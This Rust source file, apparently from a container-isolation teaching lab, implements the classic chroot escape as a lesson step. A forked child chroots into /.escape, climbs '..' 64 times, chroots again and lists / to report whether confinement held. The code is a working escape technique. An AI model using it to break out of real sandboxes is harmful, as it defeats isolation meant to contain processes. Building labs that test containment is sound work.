//! The classic chroot escape (lesson 8): in a forked child, chroot into a subdirectory while the
//! working directory stays outside it, climb `..` to the real root, chroot there, and look.

use std::io::Read;
use std::path::Path;

use rootlab_shared::result::StepDetails;
use serde::{Deserialize, Serialize};

use super::channel;
use super::context::OpContext;
use super::outcome::{sys_error, Calls, Extra, OpResult};
use super::sys::{self, Forked};

/// What the child saw.
#[derive(Serialize, Deserialize, Default)]
struct Attempt {
    before: Vec<String>,
    after: Vec<String>,
    trace: Vec<String>,
}

pub fn attempt(ctx: &OpContext, calls: &mut Calls) -> OpResult {
    let (mut r, w) = sys::pipe().map_err(|e| sys_error("escape", "pipe()", e))?;
    let child = match sys::fork().map_err(|e| sys_error("escape", "fork()", e))? {
        Forked::Child => {
            drop(r);
            let mut w = w;
            sys::child(|| channel::send(&mut w, &climb()).map_or(1, |_| 0))
        }
        Forked::Parent(pid) => pid,
    };
    drop(w);
    let mut raw = String::new();
    let _ = r.read_to_string(&mut raw);
    let _ = sys::wait(child);
    // The marker directory is an artifact of the trick, not of the experiment.
    let _ = std::fs::remove_dir("/.escape");
    let seen: Attempt = serde_json::from_str(raw.trim()).unwrap_or_default();
    calls.0.extend(seen.trace.iter().cloned());
    let escaped = !seen.after.is_empty() && seen.after != seen.before;
    let mut trace = vec![match ctx.roots.last() {
        Some(r) => format!("this actor's root was set by: {r}"),
        None => "this actor never changed its root".to_string(),
    }];
    trace.extend(seen.trace);
    trace.push(if escaped {
        "escaped: / now lists a different directory than the actor's own root".into()
    } else {
        "contained: climbing .. stopped at the actor's own root".into()
    });
    Ok(Extra {
        details: Some(StepDetails::Escape {
            escaped,
            root_listing: seen.after,
            trace,
        }),
        ..Extra::default()
    })
}

/// Runs in the child: each call is traced whether or not the kernel allows it.
fn climb() -> Attempt {
    let mut trace = Vec::new();
    let mut step = |text: &str, r: Result<(), sys::Errno>| {
        trace.push(match r {
            Ok(()) => text.to_string(),
            Err(e) => format!("{text} = -1 {e:?}"),
        });
        r.is_ok()
    };
    let made = match std::fs::create_dir("/.escape") {
        Err(e) if e.kind() != std::io::ErrorKind::AlreadyExists => {
            Err(sys::Errno::from_raw(e.raw_os_error().unwrap_or(0)))
        }
        _ => Ok(()),
    };
    let before = listing();
    let ok = step("mkdir(\"/.escape\")", made)
        && step("chdir(\"/\")", sys::chdir(Path::new("/")))
        && step("chroot(\"/.escape\")", sys::chroot(Path::new("/.escape")));
    let mut after = Vec::new();
    if ok {
        let mut climbed = Ok(());
        for _ in 0..64 {
            climbed = sys::chdir(Path::new(".."));
            if climbed.is_err() {
                break;
            }
        }
        step("chdir(\"..\") x 64", climbed);
        step("chroot(\".\")", sys::chroot(Path::new(".")));
        after = listing();
        trace.push(format!("ls / -> {}", after.join(" ")));
    }
    Attempt {
        before,
        after,
        trace,
    }
}

fn listing() -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir("/")
        .map(|d| {
            d.filter_map(|e| e.ok())
                .map(|e| e.file_name().to_string_lossy().into_owned())
                .collect()
        })
        .unwrap_or_default();
    names.sort();
    names
}
